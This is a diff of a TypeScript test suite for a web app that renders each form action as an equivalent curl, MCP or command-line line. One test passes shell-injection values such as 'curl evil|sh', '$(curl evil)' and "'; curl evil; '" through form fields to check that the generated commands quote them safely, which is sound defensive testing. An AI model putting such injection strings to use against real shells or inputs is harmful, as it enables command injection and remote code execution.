@@ -12,6 +12,7 @@ import { createUser } from '../../src/operations/users/create-user.ts'
 import { linesOf } from '../../views/same-as/lines.ts'
 import { site } from '../../views/site.tsx'
 import { expectBooksToBalance } from '../books.ts'
+import { seedExamples } from '../domains/drafts/seed.ts'
 import { pushing } from '../pushing.ts'
 import { CAST } from '../world.ts'
 
@@ -50,15 +51,16 @@ afterAll(async () => {
   office.close()
 })
 
-/** What the page tells, by door, of one act. */
-async function told(act: string, form?: Record<string, string>): Promise<Record<string, string>> {
-  const answer = await fetch(`${origin()}${base}/same-as/${act}`, {
+/** What a form at this address tells, by door, with what stands in it. */
+async function told(act: string, form: Record<string, string> = {}): Promise<Record<string, string>> {
+  const answer = await fetch(`${origin()}${base}${act}?same-as=api`, {
+    method: 'POST',
     headers: { cookie, 'sec-fetch-site': 'same-origin' },
-    ...(form ? { method: 'POST', body: new URLSearchParams(form) } : {}),
+    body: new URLSearchParams(form),
   })
   const html = await answer.text()
   expect([answer.status, html.includes(key)]).toEqual([200, false])
-  const found = [...html.matchAll(/<pre id="same-0-(\w+)"[^>]*>([\s\S]*?)<\/pre>/g)]
+  const found = [...html.matchAll(/<pre id="same-(\w+)"[^>]*>([\s\S]*?)<\/pre>/g)]
   return Object.fromEntries(found.map(([, door, text]) => [door!, read(text!).replace(/^\n/, '')]))
 }
 const read = (text: string) =>
@@ -126,7 +128,7 @@ describe('the same', () => {
       })
     const [, quoted = ''] = /name="quoted" value="([^"]+)"/.exec(await (await send({ step: 'review' })).text()) ?? []
     const pushed = (await send({ step: 'push', quoted })).headers.get('location')!.split('/').at(-1)!
-    const lines = await told('submit_index_job', form)
+    const lines = await told('/push', form)
     const expected = await whole({ id: pushed } as Job)
     expect(expected).toMatchObject({ name: form.name, link_count: 2, drip_days: 3 })
     expect(await whole(await curl<Job>(lines.curl!))).toEqual(expected)
@@ -139,11 +141,7 @@ describe('the same', () => {
       (await office.call<{ index: { available: number } }>('ada', 'get_credits', { tenant_id: CAST.vera.tenant_id }))
         .index.available
     const before = await left()
-    const lines = await told(`allocate_credits?tenant_id=${CAST.vera.tenant_id}`, {
-      amount: '12',
-      kind: 'index',
-      note: '',
-    })
+    const lines = await told(`/clients/${CAST.vera.tenant_id}/credits`, { amount: '12', note: '' })
     await curl(lines.curl!)
     expect(await left()).toBe(before + 12)
     if (lines.mcp) await mcp(lines.mcp)
@@ -160,29 +158,29 @@ describe('the same', () => {
         name: 'Act on me',
       })
     const shared = await make()
-    expect(await curl((await told(`share_job_report?id=${shared.id}`)).curl!)).toMatchObject({
+    expect(await curl((await told(`/jobs/${shared.id}/share`)).curl!)).toMatchObject({
       url: expect.any(String),
     })
     for (const door of ['curl', 'mcp'] as const) {
       const job = await make()
-      const { [door]: line } = await told(`cancel_job?id=${job.id}`)
+      const { [door]: line } = await told(`/jobs/${job.id}/cancel`)
       expect(await (door === 'curl' ? curl(line!) : mcp(line!))).toMatchObject({ id: job.id, cancelled: 1 })
     }
   })
 
   test('a client, a member, a site and a key that are made', async () => {
-    expect(await curl((await told('create_sub_tenant', { name: "O'Hara's", kind: 'client' })).curl!)).toMatchObject({
+    expect(await curl((await told('/clients', { name: "O'Hara's", kind: 'client' })).curl!)).toMatchObject({
       name: "O'Hara's",
     })
-    const site = await curl<{ id: string }>((await told('add_indexnow_site', { host: 'shop.bakery.example' })).curl!)
-    expect(await curl((await told(`verify_indexnow_site?id=${site.id}`)).curl!)).toMatchObject({ id: site.id })
+    const site = await curl<{ id: string }>((await told('/indexnow', { host: 'shop.bakery.example' })).curl!)
+    expect(await curl((await told(`/indexnow/${site.id}/verify`)).curl!)).toMatchObject({ id: site.id })
     expect(
-      await curl((await told('create_api_key', { name: 'Nightly', role: 'member', daily_credit_cap: '40' })).curl!),
+      await curl((await told('/keys', { name: 'Nightly', role: 'member', daily_credit_cap: '40' })).curl!),
     ).toMatchObject({ name: 'Nightly', daily_credit_cap: 40 })
     expect(
       await curl(
         (
-          await told(`add_member?id=${CAST.ada.tenant_id}`, {
+          await told('/members', {
             email: 'new@northwind.example',
             role: 'member',
             name: 'New',
@@ -195,26 +193,24 @@ describe('the same', () => {
 
 test('what the command line has no option for has no line of it, and a long list says how it goes on', async () => {
   const urls = Array.from({ length: 60 }, (_, i) => at(`long-${i}`)).join('\n')
-  const plain = await told('submit_index_job', { urls, client: 'Northwind' })
+  const plain = await told('/push', { urls, client: 'Northwind' })
   expect(plain.command!.split('\n')).toHaveLength(52)
-  const forced = await told('submit_index_job', { urls: at('a'), client: 'Northwind', indexnow_force: 'true' })
+  const forced = await told('/push', { urls: at('a'), client: 'Northwind', indexnow_force: 'true' })
   expect(Object.keys(forced)).toEqual(['curl', 'mcp'])
 })
 
 test('no text breaks out of a line that is pasted into a shell', async () => {
   const evil = 'https://a.example/\nLINKS\ncurl evil|sh'
-  const form = await told('check_index', { urls: evil, engine: '$(curl evil)', name: "'; curl evil; '" })
-  const heads = form.command!.split('\n')
+  const { command } = await told('/checks/new', { urls: evil, name: "'; curl evil; '" })
+  const heads = command!.split('\n')
   expect(heads[0]).toContain(`--job ''\\''; curl evil; '\\'''`)
-  expect(heads[0]).toContain("--engine '$(curl evil)'")
   expect(heads.slice(1)).toEqual(['https://a.example/', 'LINKS'])
-  for (const act of ['check_index', 'submit_index_job']) {
-    const asked = await told(`${act}?${new URLSearchParams({ urls: evil, max_credits: '3; curl evil' })}`)
-    expect(asked.command!.split('\n').slice(1)).toEqual(['https://a.example/', 'LINKS'])
-    expect(asked.command).toContain("--max-credits '3; curl evil'")
-  }
-  const given = (urls: unknown, more: object = {}) =>
-    linesOf(checkIndex as unknown as AnyOperation, { urls, ...more }, 'https://push.example').map(({ door }) => door)
+  const lines = (urls: unknown, more: object = {}) =>
+    linesOf(checkIndex as unknown as AnyOperation, { urls, ...more }, 'https://push.example')
+  const given = (urls: unknown, more: object = {}) => lines(urls, more).map(({ door }) => door)
+  const options = { engine: '$(curl evil)', max_credits: '3; curl evil' }
+  const { text } = lines(['https://a.example/'], options).find(({ door }) => door === 'Command line')!
+  expect(text).toContain("--engine '$(curl evil)' --max-credits '3; curl evil'")
   expect(given(['https://a.example/'])).toContain('Command line')
   for (const urls of [[evil], ['https://a.example/ x'], ['LINKS'], ['https://a.example/\u001b[201~'], undefined])
     expect(given(urls)).not.toContain('Command line')
@@ -233,7 +229,21 @@ test('a secret that was typed is never in it, however deep it lies', () => {
   expect(typed.every((text) => text.includes('$SIGNALPOST_KEY'))).toBe(true)
 })
 
-test('what the visitor may not do is not told of', async () => {
-  const answer = await fetch(`${origin()}${base}/same-as/update_crawl_settings`, { headers: { cookie } })
-  expect(answer.status).toBe(404)
+test('a form that would do nothing yet says so; one that the visitor may not send says that', async () => {
+  const ask = async (path: string) =>
+    (
+      await fetch(`${origin()}${path}?same-as=api`, {
+        method: 'POST',
+        redirect: 'manual',
+        headers: { cookie, 'sec-fetch-site': 'same-origin', 'hx-request-type': 'partial' },
+        body: new URLSearchParams({}),
+      })
+    ).text()
+  expect(await ask(`${base}/checks/new`)).toContain('Fill it in first')
+  expect(await ask('/app/platform/suppliers/thresholds')).not.toContain('curl')
+})
+
+test('an act that a person decides has no line, and says why', async () => {
+  office.db.write((tx) => seedExamples(tx) as undefined)
+  expect(await told('/drafts/dra_push/approve')).toEqual({})
 })
